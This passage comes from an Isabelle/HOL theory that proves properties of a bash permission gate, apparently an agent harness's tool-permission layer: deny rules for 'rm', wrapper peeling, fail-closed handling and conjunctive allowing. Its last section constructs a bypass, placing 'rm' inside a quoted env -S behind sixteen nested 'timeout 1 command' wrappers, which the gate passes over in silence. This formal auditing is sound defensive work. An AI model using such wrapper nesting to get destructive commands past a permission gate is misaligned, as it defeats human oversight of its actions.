  "bash_rule a p = \<lparr>rule_action = a, rule_tool = FBash, rule_pattern = Some p, rule_mode = GlobMode\<rparr>"

theorem rule_order_is_irrelevant_witness:
  "map_option verdict (evaluate_with_cwd literal_externals
       (compile_policy literal_externals \<lparr>rules = [bash_rule RAllow ''ls'', bash_rule RDeny ''rm''], config_prompt_policy = PromptAsk\<rparr>)
       (AccessBash ''rm'' :: unit access_kind) None)
   = map_option verdict (evaluate_with_cwd literal_externals
       (compile_policy literal_externals \<lparr>rules = [bash_rule RDeny ''rm'', bash_rule RAllow ''ls''], config_prompt_policy = PromptAsk\<rparr>)
       (AccessBash ''rm'' :: unit access_kind) None)"
  by (rule rule_order_is_irrelevant) auto

subsection \<open>The gate looks behind chains, wrappers and nested scripts\<close>

definition rejects :: "gate_decision option \<Rightarrow> bool" where
  "rejects d \<longleftrightarrow> (\<exists>r. d = Some (GateReject r))"

definition binding :: "gate_decision option \<Rightarrow> bool" where
  "binding d \<longleftrightarrow> rejects d \<or> d = Some AskRuleMatch"

definition answers :: "gate_decision option \<Rightarrow> bool" where
  "answers d \<longleftrightarrow> d \<noteq> None"

lemma answers_ask [simp]: "answers (Some g)"
  by (simp add: answers_def)

lemma combine_rejects [simp]: "rejects (combine_gate_decisions a b) \<longleftrightarrow> rejects a \<or> rejects b"
  by (cases "(a, b)" rule: combine_gate_decisions.cases)
    (auto simp: rejects_def gate_rank_def split: gate_decision.splits)

lemma combine_binding [simp]: "binding (combine_gate_decisions a b) \<longleftrightarrow> binding a \<or> binding b"
  by (cases "(a, b)" rule: combine_gate_decisions.cases)
    (auto simp: binding_def rejects_def gate_rank_def split: gate_decision.splits)

lemma combine_None [simp]: "combine_gate_decisions a b = None \<longleftrightarrow> a = None \<and> b = None"
  by (cases "(a, b)" rule: combine_gate_decisions.cases) auto

text \<open>
  The three questions one asks of a decision: does it reject, does it bind, is there one at all.  Each
  distributes over the combination, so what follows is proved once for all three.
\<close>

locale gate_question =
  fixes holds :: "gate_decision option \<Rightarrow> bool"
  assumes holds_combine: "holds (combine_gate_decisions a b) \<longleftrightarrow> holds a \<or> holds b"
    and holds_None: "\<not> holds None"
begin

lemma holds_fold:
  "holds (foldl (\<lambda>d c. combine_gate_decisions d (f c)) d0 cs) \<longleftrightarrow> holds d0 \<or> (\<exists>c \<in> set cs. holds (f c))"
  by (induction cs arbitrary: d0) (auto simp: holds_combine)

lemma holds_command_words:
  "holds (evaluate_command_words nested x p raw) \<longleftrightarrow>
     holds (fail_closed_if (peel_flagged (normalize_command_words raw)))
     \<or> holds (escalate x p (join '' '' raw))
     \<or> holds (escalate x p (join '' '' (norm_words (normalize_command_words raw))))
     \<or> (case shell_dash_c_script (map ShellLiteral (norm_words (normalize_command_words raw))) of
          InlineLiteral i \<Rightarrow> holds (nested (norm_words (normalize_command_words raw) ! i))
        | NotInline \<Rightarrow> False
        | _ \<Rightarrow> holds (Some AskFailClosed))
     \<or> (case env_split_string_script (norm_words (normalize_command_words raw)) of
          Some s \<Rightarrow> holds (nested s) | None \<Rightarrow> False)"
proof -
  let ?n = "normalize_command_words raw"
  have same: "length (norm_words ?n) = length raw \<Longrightarrow> norm_words ?n = raw"
    using drop_to_suffix [OF normalize_suffix(1) [of raw]] by simp
  have flags: "holds (combine_gate_decisions
        (fail_closed_if (norm_exhausted ?n \<or> norm_ambiguous ?n \<or> norm_options_uncertain ?n))
        (fail_closed_if (norm_split_string ?n)))
      \<longleftrightarrow> holds (fail_closed_if (peel_flagged ?n))"
    by (auto simp: holds_combine fail_closed_if_def peel_flagged_def holds_None)
  have forms: "holds (foldl (\<lambda>d words. combine_gate_decisions d (escalate x p (join '' '' words)))
        (combine_gate_decisions
          (fail_closed_if (norm_exhausted ?n \<or> norm_ambiguous ?n \<or> norm_options_uncertain ?n))
          (fail_closed_if (norm_split_string ?n)))
        (raw # (if length (norm_words ?n) \<noteq> length raw then [norm_words ?n] else [])))
      \<longleftrightarrow> holds (fail_closed_if (peel_flagged ?n)) \<or> holds (escalate x p (join '' '' raw))
         \<or> holds (escalate x p (join '' '' (norm_words ?n)))"
    unfolding holds_fold flags using same by auto
  show ?thesis
    unfolding evaluate_command_words_def Let_def
    by (cases "shell_dash_c_script (map ShellLiteral (norm_words ?n))"; cases "env_split_string_script (norm_words ?n)")
      (simp_all only: option.case inline_script.case holds_combine forms, blast+)
qed

lemma holds_segments:
  "holds (evaluate_bash_command_segments x p cmd depth) \<longleftrightarrow>
     (case all_commands_from_script (ext_parse x) cmd of
        None \<Rightarrow> holds (Some AskFailClosed)
      | Some segments \<Rightarrow>
          \<exists>c \<in> set segments. holds (evaluate_command_words
            (\<lambda>script. case depth of
                        0 \<Rightarrow> Some AskFailClosed
                      | Suc d \<Rightarrow> evaluate_bash_command_segments x p script d) x p (command_words c)))"
  by (subst evaluate_bash_command_segments.simps)
    (simp add: holds_fold holds_None split: option.split)

end

interpretation rejecting: gate_question rejects
  by unfold_locales (simp_all add: rejects_def [of None])

interpretation binds: gate_question binding
  by unfold_locales (simp_all add: binding_def [of None] rejects_def)

interpretation speaks: gate_question answers
  by unfold_locales (auto simp: answers_def)

text \<open>
  The commands a script runs, as the words the shell starts with: the segments of the script as they are
  written and peeled, and those of the scripts given to \<open>-c\<close> and packed in \<open>env -S\<close>, nested up to a depth.
\<close>

inductive runs :: "bash_parser \<Rightarrow> nat \<Rightarrow> rstr \<Rightarrow> rstr list \<Rightarrow> bool" for parse where
  raw: "all_commands_from_script parse script = Some segments \<Longrightarrow> c \<in> set segments
    \<Longrightarrow> runs parse n script (command_words c)"
| peeled: "all_commands_from_script parse script = Some segments \<Longrightarrow> c \<in> set segments
    \<Longrightarrow> runs parse n script (norm_words (normalize_command_words (command_words c)))"
| inline: "all_commands_from_script parse script = Some segments \<Longrightarrow> c \<in> set segments
    \<Longrightarrow> inner = norm_words (normalize_command_words (command_words c))
    \<Longrightarrow> shell_dash_c_script (map ShellLiteral inner) = InlineLiteral i
    \<Longrightarrow> runs parse n (inner ! i) ws \<Longrightarrow> runs parse (Suc n) script ws"
| packed: "all_commands_from_script parse script = Some segments \<Longrightarrow> c \<in> set segments
    \<Longrightarrow> env_split_string_script (norm_words (normalize_command_words (command_words c))) = Some s
    \<Longrightarrow> runs parse n s ws \<Longrightarrow> runs parse (Suc n) script ws"

text \<open>What holds of the rule check of any command that runs holds of the whole script.\<close>

context gate_question
begin

lemma holds_runs:
  "runs (ext_parse x) n script ws \<Longrightarrow> holds (escalate x p (join '' '' ws))
   \<Longrightarrow> holds (evaluate_bash_command_segments x p script n)"
proof (induction rule: runs.induct)
  case (raw script segments c n)
  then show ?case
    unfolding holds_segments [of x p script n] by (auto simp: holds_command_words)
next
  case (peeled script segments c n)
  then show ?case
    unfolding holds_segments [of x p script n] by (auto simp: holds_command_words)
next
  case (inline script segments c inner i n ws)
  then show ?case
    unfolding holds_segments [of x p script "Suc n"] by (auto simp: holds_command_words intro!: bexI [of _ c])
next
  case (packed script segments c s n ws)
  then show ?case
    unfolding holds_segments [of x p script "Suc n"] by (auto simp: holds_command_words intro!: bexI [of _ c])
qed

end

lemma rule_hits_bash: "rule_hits x (AccessBash cmd) cwd a r \<Longrightarrow> rule_tool r \<in> {FBash, FAny} \<and> rule_action r = a"
  by (cases "rule_tool r") (auto simp: rule_hits_def tool_filter_matches_def)

lemma restricting_decision:
  assumes "evaluate x (compile_policy x c) (AccessBash cmd :: 'json access_kind) = Some d" "d \<noteq> DAllow"
  shows "has_bash_command_restrictions (compile_policy x c)"
proof -
  let ?a = "AccessBash cmd :: 'json access_kind"
  have "\<exists>r \<in> set (rules c). rule_hits x ?a None RDeny r \<or> rule_hits x ?a None RAsk r"
    using assms unfolding evaluate_def evaluate_compiled
    by (auto simp: list_ex_iff filter_eq_Cons_iff split: list.splits if_splits)
  then show ?thesis
    using rule_hits_bash by (fastforce simp: is_restriction_def)
qed

lemma hidden_command:
  assumes "runs (ext_parse x) max_inline_shell_depth cmd ws"
    and "evaluate x (compile_policy x c) (AccessBash (join '' '' ws) :: unit access_kind) = Some d"
  shows "d = DReject r \<Longrightarrow> rejects (evaluate_bash_command_gate x (compile_policy x c) cmd)"
    and "d = DAsk \<Longrightarrow> binding (evaluate_bash_command_gate x (compile_policy x c) cmd)"
proof -
  have gate: "evaluate_bash_command_gate x (compile_policy x c) cmd
      = evaluate_bash_command_segments x (compile_policy x c) cmd max_inline_shell_depth" if "d \<noteq> DAllow"
    using restricting_decision [OF assms(2) that] by (simp only: evaluate_bash_command_gate_def simp_thms if_False)
  show "d = DReject r \<Longrightarrow> rejects (evaluate_bash_command_gate x (compile_policy x c) cmd)"
    using gate rejecting.holds_runs [OF assms(1)] assms(2) by (simp add: escalate_def rejects_def)
  show "d = DAsk \<Longrightarrow> binding (evaluate_bash_command_gate x (compile_policy x c) cmd)"
    using gate binds.holds_runs [OF assms(1)] assms(2) by (simp add: escalate_def binding_def)
qed

text \<open>
  C28: Hiding a command that the gate can decode does not soften the rules.  For every command that the gate
  finds in a script (a segment as it is written or as its loops peel it, and the same for the scripts they find
  in the string of a \<open>-c\<close> and in an \<open>env -S\<close> without quotes, nested up to the budget of eight), a rejection by
  the rules becomes a rejection of the whole script, whatever the other commands are, and a question becomes a
  binding question or a rejection.  This says nothing of commands that the gate does not find: what is flagged or
  not decoded is at most asked about, and an \<open>env -S\<close> with quotes may be missed.
\<close>

theorem gate_sees_hidden_commands:
  assumes "runs (ext_parse x) max_inline_shell_depth cmd ws"
    and "evaluate x (compile_policy x c) (AccessBash (join '' '' ws) :: unit access_kind) = Some d"
  shows "((\<exists>r. d = DReject r) \<longrightarrow> (\<exists>r. evaluate_bash_command_policy x (compile_policy x c) cmd = Some (DReject r)))
    \<and> (d = DAsk \<longrightarrow> (\<exists>g. evaluate_bash_command_gate x (compile_policy x c) cmd = Some g \<and> g \<noteq> AskFailClosed))"
  using hidden_command [OF assms]
  by (auto simp: evaluate_bash_command_policy_def rejects_def binding_def into_decision_def)

definition deny_rm :: permission_config where
  "deny_rm = \<lparr>rules = [bash_rule RAllow ''ls'', bash_rule RDeny ''rm''], config_prompt_policy = PromptAsk\<rparr>"

lemma timeout_rm_runs: "runs (ext_parse literal_externals) n ''timeout 5 rm x'' [''rm'', ''x'']"
proof -
  have cmds: "all_commands_from_script (ext_parse literal_externals) ''timeout 5 rm x''
      = Some [\<lparr>command_words = [''timeout'', ''5'', ''rm'', ''x''], span_start = 0, span_end = 14\<rparr>]"
    by code_simp
  have norm: "norm_words (normalize_command_words [''timeout'', ''5'', ''rm'', ''x'']) = [''rm'', ''x'']"
    by code_simp
  show ?thesis
    using runs.peeled [OF cmds, of "\<lparr>command_words = [''timeout'', ''5'', ''rm'', ''x''], span_start = 0, span_end = 14\<rparr>" n]
    by (simp add: norm)
qed

theorem gate_sees_hidden_commands_witness:
  "\<exists>r. evaluate_bash_command_policy literal_externals (compile_policy literal_externals deny_rm)
     ''timeout 5 rm x'' = Some (DReject r)"
proof -
  have "evaluate literal_externals (compile_policy literal_externals deny_rm)
      (AccessBash (join '' '' [''rm'', ''x'']) :: unit access_kind) = Some (DReject (deny_reason (bash_rule RDeny ''rm'')))"
    by code_simp
  from gate_sees_hidden_commands [OF timeout_rm_runs this] show ?thesis by blast
qed

subsection \<open>The gate fails closed\<close>

text \<open>A script that cannot be judged: the analysis gives up somewhere, within the budget.\<close>

inductive unclear :: "bash_parser \<Rightarrow> nat \<Rightarrow> rstr \<Rightarrow> bool" for parse where
  undecomposed: "all_commands_from_script parse script = None \<Longrightarrow> unclear parse n script"
| flagged: "all_commands_from_script parse script = Some segments \<Longrightarrow> c \<in> set segments
    \<Longrightarrow> peel_flagged (normalize_command_words (command_words c)) \<Longrightarrow> unclear parse n script"
| untrusted: "all_commands_from_script parse script = Some segments \<Longrightarrow> c \<in> set segments
    \<Longrightarrow> shell_dash_c_script (map ShellLiteral (norm_words (normalize_command_words (command_words c))))
        \<in> {InlineUntrusted, InlineUnrecognized} \<Longrightarrow> unclear parse n script"
| too_deep_inline: "all_commands_from_script parse script = Some segments \<Longrightarrow> c \<in> set segments
    \<Longrightarrow> shell_dash_c_script (map ShellLiteral (norm_words (normalize_command_words (command_words c))))
        = InlineLiteral i \<Longrightarrow> unclear parse 0 script"
| too_deep_packed: "all_commands_from_script parse script = Some segments \<Longrightarrow> c \<in> set segments
    \<Longrightarrow> env_split_string_script (norm_words (normalize_command_words (command_words c))) = Some s
    \<Longrightarrow> unclear parse 0 script"
| inline: "all_commands_from_script parse script = Some segments \<Longrightarrow> c \<in> set segments
    \<Longrightarrow> inner = norm_words (normalize_command_words (command_words c))
    \<Longrightarrow> shell_dash_c_script (map ShellLiteral inner) = InlineLiteral i
    \<Longrightarrow> unclear parse n (inner ! i) \<Longrightarrow> unclear parse (Suc n) script"
| packed: "all_commands_from_script parse script = Some segments \<Longrightarrow> c \<in> set segments
    \<Longrightarrow> env_split_string_script (norm_words (normalize_command_words (command_words c))) = Some s
    \<Longrightarrow> unclear parse n s \<Longrightarrow> unclear parse (Suc n) script"

lemma segments_fail_closed:
  "unclear (ext_parse x) n script \<Longrightarrow> answers (evaluate_bash_command_segments x p script n)"
proof (induction rule: unclear.induct)
  case (undecomposed script n)
  then show ?case by (simp add: evaluate_bash_command_segments.simps [of _ _ _ n])
next
  case (flagged script segments c n)
  then show ?case
    unfolding speaks.holds_segments [of x p script n]
    by (auto simp: speaks.holds_command_words fail_closed_if_def intro!: bexI [of _ c])
next
  case (untrusted script segments c n)
  then show ?case
    unfolding speaks.holds_segments [of x p script n]
    by (auto simp: speaks.holds_command_words intro!: bexI [of _ c])
next
  case (too_deep_inline script segments c i)
  then show ?case
    unfolding speaks.holds_segments [of x p script 0]
    by (auto simp: speaks.holds_command_words intro!: bexI [of _ c])
next
  case (too_deep_packed script segments c s)
  then show ?case
    unfolding speaks.holds_segments [of x p script 0]
    by (auto simp: speaks.holds_command_words intro!: bexI [of _ c])
next
  case (inline script segments c inner i n)
  then show ?case
    unfolding speaks.holds_segments [of x p script "Suc n"]
    by (auto simp: speaks.holds_command_words intro!: bexI [of _ c])
next
  case (packed script segments c s n)
  then show ?case
    unfolding speaks.holds_segments [of x p script "Suc n"]
    by (auto simp: speaks.holds_command_words intro!: bexI [of _ c])
qed

text \<open>
  With any bash restriction in the rules, the gate answers (with a question or a rejection) when the
  script, or a script nested in it, does not decompose into plain commands, when the peeling of a command
  raises a flag, when the options before a \<open>-c\<close> are not understood, and when the nesting goes beyond the
  budget.
\<close>

theorem gate_fails_closed:
  assumes "unclear (ext_parse x) max_inline_shell_depth cmd"
    and "r \<in> set (rules c)" "is_restriction r" "rule_tool r \<in> {FBash, FAny}"
  shows "\<exists>g. evaluate_bash_command_gate x (compile_policy x c) cmd = Some g"
proof -
  have "has_bash_command_restrictions (compile_policy x c)" using assms(2-4) by auto
  with segments_fail_closed [OF assms(1)] show ?thesis
    by (simp add: evaluate_bash_command_gate_def answers_def)
qed

theorem gate_fails_closed_witness:
  "\<exists>g. evaluate_bash_command_gate (literal_externals\<lparr>ext_parse := (\<lambda>_. None)\<rparr>)
     (compile_policy (literal_externals\<lparr>ext_parse := (\<lambda>_. None)\<rparr>) deny_rm) ''for f in *; do rm; done'' = Some g"
  by (rule gate_fails_closed [where r = "bash_rule RDeny ''rm''"])
    (auto simp: all_commands_from_script_def deny_rm_def bash_rule_def is_restriction_def
      intro: unclear.undecomposed)

text \<open>
  What a script carries, said apart from the loops and the budgets of the gate: the commands that are left of
  its segments when wrappers and transparent prefixes are taken off one by one until none is left, and what
  is carried by the string of a shell's \<open>-c\<close> found in this way, however deep.
\<close>

inductive carries :: "bash_parser \<Rightarrow> rstr \<Rightarrow> rstr list \<Rightarrow> bool" for parse where
  plain: "all_commands_from_script parse script = Some segments \<Longrightarrow> c \<in> set segments
    \<Longrightarrow> peel_step\<^sup>*\<^sup>* (command_words c) ws \<Longrightarrow> \<nexists>v. peel_step ws v \<Longrightarrow> carries parse script ws"
| shell: "all_commands_from_script parse script = Some segments \<Longrightarrow> c \<in> set segments
    \<Longrightarrow> peel_step\<^sup>*\<^sup>* (command_words c) (sh # flag # inner # rest)
    \<Longrightarrow> basename sh \<in> set [''bash'', ''sh'', ''dash'', ''zsh'', ''ksh''] \<Longrightarrow> flag \<in> set [''-c'', ''-lc'', ''-ec'', ''-xc'']
    \<Longrightarrow> \<not> starts_with inner ''-'' \<Longrightarrow> \<not> starts_with inner ''+''
    \<Longrightarrow> carries parse inner ws \<Longrightarrow> carries parse script ws"

lemma shell_is_final:
  assumes "basename sh \<in> set [''bash'', ''sh'', ''dash'', ''zsh'', ''ksh'']"
  shows "\<nexists>v. peel_step (sh # args) v"
proof -
  have "list_all (\<lambda>b. b \<notin> set [''timeout'', ''nice'', ''ionice'', ''chrt'', ''stdbuf'', ''env'', ''exec'', ''command'', ''builtin''])
      [''bash'', ''sh'', ''dash'', ''zsh'', ''ksh'']"
    by code_simp
  then have b: "basename sh \<notin> set [''timeout'', ''nice'', ''ionice'', ''chrt'', ''stdbuf'', ''env'', ''exec'', ''command'', ''builtin'']"
    using assms unfolding list_all_iff by blast
  then have "\<not> is_wrapper_command (sh # args)" by (simp add: is_wrapper_command_def head_name_def)
  moreover have "strip_transparent_prefix (sh # args) = NotPrefix"
    using b by (simp add: strip_transparent_prefix_def)
  ultimately show ?thesis using strip_wrapper_heads by (auto elim!: peel_stepE)
qed

lemma shell_dash_c_plain:
  assumes "basename sh \<in> set [''bash'', ''sh'', ''dash'', ''zsh'', ''ksh'']" and "flag \<in> set [''-c'', ''-lc'', ''-ec'', ''-xc'']"
    and "\<not> starts_with inner ''-''" and "\<not> starts_with inner ''+''"
  shows "shell_dash_c_script (map ShellLiteral (sh # flag # inner # rest)) = InlineLiteral 2"
proof -
  have "list_all (\<lambda>f. shell_scan False 1 False False (ShellLiteral f # t) = shell_scan False 2 True False t)
      [''-c'', ''-lc'', ''-ec'', ''-xc'']" for t
    by (simp add: shell_scan.simps(3) starts_with_def numeral_2_eq_2)
  then have "shell_scan False 1 False False (ShellLiteral flag # t) = shell_scan False 2 True False t" for t
    using assms(2) unfolding list_all_iff by blast
  moreover have "inner \<noteq> ''--'' \<and> inner \<noteq> ''-''" using assms(3) by (auto simp: starts_with_def)
  ultimately show ?thesis
    using assms(1,3,4) by (simp add: shell_dash_c_script_def shell_scan.simps(3) finish_literal_def)
qed

lemma carried_command:
  "carries parse script ws \<Longrightarrow> runs parse n script ws \<or> unclear parse n script"
proof (induction arbitrary: n rule: carries.induct)
  case (plain script segments c ws)
  show ?case
  proof (cases "peel_flagged (normalize_command_words (command_words c))")
    case True
    then show ?thesis using plain.hyps(1,2) by (blast intro: unclear.flagged)
  next
    case False
    then have "norm_words (normalize_command_words (command_words c)) = ws"
      using plain.hyps(3,4) by (intro unflagged_normal_form) (auto simp: unflagged_def peel_flagged_def)
    then show ?thesis using runs.peeled [OF plain.hyps(1,2)] by metis
  qed
next
  case (shell script segments c sh flag inner rest ws)
  show ?case
  proof (cases "peel_flagged (normalize_command_words (command_words c))")
    case True
    then show ?thesis using shell.hyps(1,2) by (blast intro: unclear.flagged)
  next
    case False
    then have norm: "norm_words (normalize_command_words (command_words c)) = sh # flag # inner # rest"
      using shell.hyps(3,4) shell_is_final
      by (intro unflagged_normal_form) (auto simp: unflagged_def peel_flagged_def)
    have i: "shell_dash_c_script (map ShellLiteral (norm_words (normalize_command_words (command_words c)))) = InlineLiteral 2"
      unfolding norm by (rule shell_dash_c_plain [OF shell.hyps(4-7)])
    show ?thesis
    proof (cases n)
      case 0
      then show ?thesis using unclear.too_deep_inline [OF shell.hyps(1,2) i] by simp
    next
      case (Suc m)
      have "norm_words (normalize_command_words (command_words c)) ! 2 = inner" by (simp add: norm)
      then show ?thesis
        using Suc shell.IH [of m] runs.inline [OF shell.hyps(1,2) refl i] unclear.inline [OF shell.hyps(1,2) refl i] by metis
    qed
  qed
qed



subsection \<open>Allowing is conjunctive\<close>

text \<open>The peeled commands of a script and of the scripts it gives to \<open>-c\<close>, however deep.\<close>

inductive executes :: "bash_parser \<Rightarrow> rstr \<Rightarrow> rstr list \<Rightarrow> bool" for parse where
  segment: "all_commands_from_script parse script = Some segments \<Longrightarrow> c \<in> set segments
    \<Longrightarrow> executes parse script (norm_words (normalize_command_words (command_words c)))"
| inline: "all_commands_from_script parse script = Some segments \<Longrightarrow> c \<in> set segments
    \<Longrightarrow> inner = norm_words (normalize_command_words (command_words c))
    \<Longrightarrow> shell_dash_c_script (map ShellLiteral inner) = InlineLiteral i
    \<Longrightarrow> executes parse (inner ! i) ws \<Longrightarrow> executes parse script ws"

lemma segment_allowedD:
  assumes "bash_segment_allowed nested x p scope words"
  shows "bash_words_allowed x p (norm_words (normalize_command_words words)) scope"
    and "shell_dash_c_script (map ShellLiteral (norm_words (normalize_command_words words))) = InlineLiteral i
      \<Longrightarrow> nested (norm_words (normalize_command_words words) ! i)"
  using assms by (auto simp: bash_segment_allowed_def Let_def split: if_splits)

lemma chain_allows_executed:
  "executes (ext_parse x) cmd ws \<Longrightarrow> bash_chain_fully_allowed x p cmd depth scope
   \<Longrightarrow> bash_words_allowed x p ws scope"
proof (induction arbitrary: depth rule: executes.induct)
  case (segment script segments c)
  then show ?case
    unfolding bash_chain_iff [of x p script] using segment_allowedD(1) by fastforce
next
  case (inline script segments c inner i ws)
  from inline.prems inline.hyps(1,2) have
    "bash_segment_allowed (\<lambda>s. \<exists>d. depth = Suc d \<and> bash_chain_fully_allowed x p s d scope)
       x p scope (command_words c)"
    unfolding bash_chain_iff [of x p script] by auto
  from segment_allowedD(2) [OF this] inline.hyps(3,4) obtain d where
    "bash_chain_fully_allowed x p (inner ! i) d scope" by auto
  then show ?case by (rule inline.IH)
qed

lemma narrow_allow_is_narrow:
  assumes "narrow_allow_authorizes x (compile_policy x c) access" "access = AccessBash cmd"
    and "executes (ext_parse x) cmd ws"
  shows "\<not> head_is_exec_vehicle ws
    \<and> (\<exists>r \<in> set (rules c). \<not> rule_is_catchall x r \<and> rule_action r = RAllow
         \<and> bash_allow_pattern_matches x (join '' '' ws) r (compile_matcher x r))"
proof -
  have "bash_chain_fully_allowed x (compile_policy x c) cmd max_inline_shell_depth NarrowOnly"
    using assms(1,2) by (simp add: narrow_allow_authorizes_def)
  from chain_allows_executed [OF assms(3) this] show ?thesis
    by (auto simp: bash_words_allowed_compiled)
qed

text \<open>
  C30: The policy allows a bash command only as a whole: when it answers \<open>Allow\<close>, every command that the
  script executes, in any segment of the chain and inside every nested \<open>-c\<close> script, is matched, in its
  peeled form, by an allow rule for bash, and no deny or ask rule matches the script.
\<close>

theorem bash_allow_is_conjunctive:
  assumes "evaluate_with_cwd x (compile_policy x c) (AccessBash cmd :: 'json access_kind) cwd = Some DAllow"
    and "executes (ext_parse x) cmd ws"
  shows "(\<exists>r \<in> set (rules c). rule_action r = RAllow \<and> rule_tool r \<in> {FBash, FAny}
           \<and> bash_allow_pattern_matches x (join '' '' ws) r (compile_matcher x r))
    \<and> (\<forall>r \<in> set (rules c). \<not> rule_hits x (AccessBash cmd :: 'json access_kind) cwd RDeny r
         \<and> \<not> rule_hits x (AccessBash cmd :: 'json access_kind) cwd RAsk r)"
proof -
  let ?a = "AccessBash cmd :: 'json access_kind"
  have "filter (rule_hits x ?a cwd RDeny) (rules c) = []" "\<not> list_ex (rule_hits x ?a cwd RAsk) (rules c)"
    and chain: "bash_chain_fully_allowed x (compile_policy x c) cmd max_inline_shell_depth AnyRule"
    using assms(1) unfolding evaluate_compiled by (auto split: list.splits if_splits)
  then have "\<forall>r \<in> set (rules c). \<not> rule_hits x ?a cwd RDeny r \<and> \<not> rule_hits x ?a cwd RAsk r"
    by (auto simp: filter_empty_conv list_ex_iff)
  with chain_allows_executed [OF assms(2) chain] show ?thesis
    unfolding bash_words_allowed_compiled by blast
qed

theorem bash_allow_is_conjunctive_witness:
  "(\<exists>r \<in> set (rules deny_rm). rule_action r = RAllow \<and> rule_tool r \<in> {FBash, FAny}
      \<and> bash_allow_pattern_matches literal_externals (join '' '' [''ls'', ''x'']) r (compile_matcher literal_externals r))
   \<and> list_all (\<lambda>r.
        \<not> rule_hits literal_externals (AccessBash ''timeout 5 ls x'' :: unit access_kind) None RDeny r
        \<and> \<not> rule_hits literal_externals (AccessBash ''timeout 5 ls x'' :: unit access_kind) None RAsk r)
      (rules deny_rm)"
  unfolding list_all_iff
proof (rule bash_allow_is_conjunctive)
  show "evaluate_with_cwd literal_externals (compile_policy literal_externals deny_rm)
      (AccessBash ''timeout 5 ls x'' :: unit access_kind) None = Some DAllow"
    by code_simp
  have cmds: "all_commands_from_script (ext_parse literal_externals) ''timeout 5 ls x''
      = Some [\<lparr>command_words = [''timeout'', ''5'', ''ls'', ''x''], span_start = 0, span_end = 14\<rparr>]"
    by code_simp
  have norm: "norm_words (normalize_command_words [''timeout'', ''5'', ''ls'', ''x'']) = [''ls'', ''x'']"
    by code_simp
  show "executes (ext_parse literal_externals) ''timeout 5 ls x'' [''ls'', ''x'']"
    using executes.segment [OF cmds, of "\<lparr>command_words = [''timeout'', ''5'', ''ls'', ''x''], span_start = 0, span_end = 14\<rparr>"]
    by (simp add: norm)
qed

subsection \<open>The index of an inline script\<close>

text \<open>The callers index the words with it: it is in range.\<close>

definition index_within :: "nat \<Rightarrow> nat \<Rightarrow> inline_script \<Rightarrow> bool" where
  "index_within lo hi s \<longleftrightarrow> (case s of InlineLiteral i \<Rightarrow> lo \<le> i \<and> i < hi | _ \<Rightarrow> True)"

lemma index_within_simps [simp]:
  "index_within lo hi NotInline" "index_within lo hi InlineUntrusted" "index_within lo hi InlineUnrecognized"
  "index_within lo hi (scan_none u)" "index_within lo hi (scan_ambiguous s)"
  "lo \<le> i \<Longrightarrow> i < hi \<Longrightarrow> index_within lo hi (finish_literal d i)"
  by (simp_all add: index_within_def scan_none_def scan_ambiguous_def finish_literal_def)

lemma branch_shell_word:
  "P a \<Longrightarrow> (\<And>v ys. xs = ShellLiteral v # ys \<Longrightarrow> P (f v ys)) \<Longrightarrow>
   P (case xs of [] \<Rightarrow> a | y # ys \<Rightarrow> (case y of ShellLiteral v \<Rightarrow> f v ys | ShellUntrusted \<Rightarrow> a))"
  by (cases xs) (auto split: shell_word.splits)

lemma index_within_mono: "index_within lo hi s \<Longrightarrow> lo' \<le> lo \<Longrightarrow> index_within lo' hi s"
  by (auto simp: index_within_def split: inline_script.splits)

lemma shell_scan_within: "index_within i (i + length ws) (shell_scan dyn i saw_c unrec ws)"
proof (induction ws arbitrary: i saw_c unrec rule: length_induct)
  case (1 ws)
  show ?case
  proof (cases ws)
    case Nil
    then show ?thesis by simp
  next
    case (Cons w rest)
    note ws = this
    show ?thesis
    proof (cases w)
      case ShellUntrusted
      then show ?thesis using Cons by simp
    next
      case (ShellLiteral word)
      let ?P = "index_within i (i + length ws)"
      have IH: "?P (shell_scan dyn j s u ys)"
        if "length ys < length ws" "j + length ys = i + length ws" "i \<le> j" for j s u ys
        using 1 that by (metis index_within_mono)
      have one: "?P (shell_scan dyn (i + 1) s u rest)" for s u
        using Cons by (intro IH) simp_all
      have two: "?P (shell_scan dyn (i + 2) s u ys)" if "rest = ShellLiteral v # ys" for v ys s u
        using Cons that by (intro IH) simp_all
      have three: "?P (finish_literal dyn (i + 1))" if "rest = ShellLiteral v # ys" for v ys
        using Cons that by simp
      have here: "?P (finish_literal dyn i)" using Cons by simp
      have "?P (shell_scan dyn i saw_c unrec (ShellLiteral word # rest))"
        unfolding shell_scan.simps Let_def
        by (intro branch_if [where P = ?P] branch_shell_word [where P = ?P] one here index_within_simps(1-5))
          (erule two three)+
      then show ?thesis using Cons ShellLiteral by simp
    qed
  qed
qed

lemma shell_dash_c_in_range:
  assumes "shell_dash_c_script words = InlineLiteral i"
  shows "0 < i \<and> i < length words"
proof (cases words)
  case Nil
  with assms show ?thesis by (simp add: shell_dash_c_script_def)
next
  case (Cons w rest)
  with assms obtain dyn where "shell_scan dyn 1 False False rest = InlineLiteral i"
    by (auto simp: shell_dash_c_script_def split: shell_word.splits if_splits)
  with shell_scan_within [of 1 rest dyn False False] Cons show ?thesis
    by (simp add: index_within_def)
qed

subsection \<open>A packed command behind sixteen rounds\<close>

text \<open>
  The source promises that every split-string shape keeps at least a question.  Behind fifteen
  alternations of a wrapper and a transparent prefix it does; behind sixteen the rounds are used up before the
  words of \<open>env -S\<close> are looked at, no flag is raised, and (the payload having a quote, so that it is not
  read as a script) the gate passes the command over in silence.
\<close>

definition packed_rm :: "nat \<Rightarrow> rstr list" where
  "packed_rm n = concat (replicate n [''timeout'', ''1'', ''command'']) @ [''env'', ''-S'', ''rm '' @ [squote] @ ''x'' @ [squote]]"

lemma packed_rm_asks: "answers (evaluate_command_words nested x p (packed_rm 15))"
proof -
  have "peel_flagged (normalize_command_words (packed_rm 15))" by code_simp
  then show ?thesis by (simp add: speaks.holds_command_words fail_closed_if_def)
qed

lemma packed_rm_unnoticed:
  assumes "escalate x p (join '' '' (packed_rm 16)) = None"
    and "escalate x p (''env -S rm '' @ [squote] @ ''x'' @ [squote]) = None"
  shows "evaluate_command_words nested x p (packed_rm 16) = None"
proof -
  have norm: "norm_words (normalize_command_words (packed_rm 16)) = packed_rm 0"
    "\<not> peel_flagged (normalize_command_words (packed_rm 16))"
    by code_simp+
  have rest: "shell_dash_c_script (map ShellLiteral (packed_rm 0)) = NotInline"
    "env_split_string_script (packed_rm 0) = None"
    by code_simp+
  have words: "join '' '' (packed_rm 0) = ''env -S rm '' @ [squote] @ ''x'' @ [squote]" by (simp add: packed_rm_def)
  have "\<not> answers (evaluate_command_words nested x p (packed_rm 16))"
    unfolding speaks.holds_command_words norm rest words using assms norm(2)
